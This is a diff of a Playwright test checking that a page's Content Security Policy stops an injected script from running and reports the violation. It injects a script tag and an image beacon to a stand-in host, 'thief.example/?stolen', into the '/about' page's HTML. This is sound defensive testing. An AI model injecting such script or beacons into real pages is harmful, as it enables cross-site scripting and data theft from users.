@@ -5,14 +5,14 @@ test('a script that was smuggled into a page does not run, and admins read of it
   page,
 }) => {
   const reported = page.waitForResponse((response) => response.url().endsWith('/csp-report'))
-  await page.goto('/contacts')
-  await page.evaluate(() => {
-    const script = document.createElement('script')
-    script.textContent = 'window.smuggled = true'
-    document.body.append(script)
-    const image = new Image()
-    image.src = 'https://thief.example/?stolen'
+  const smuggled =
+    '<script>window.smuggled = true</script><img alt="" src="https://thief.example/?stolen">'
+  await page.route('/about', async (route) => {
+    const answer = await route.fetch()
+    const html = await answer.text()
+    await route.fulfill({ response: answer, body: html.replace('</body>', `${smuggled}$&`) })
   })
+  await page.goto('/about')
   expect((await reported).status()).toBe(200)
   expect(await page.evaluate(() => Reflect.get(window, 'smuggled'))).toBeUndefined()
 
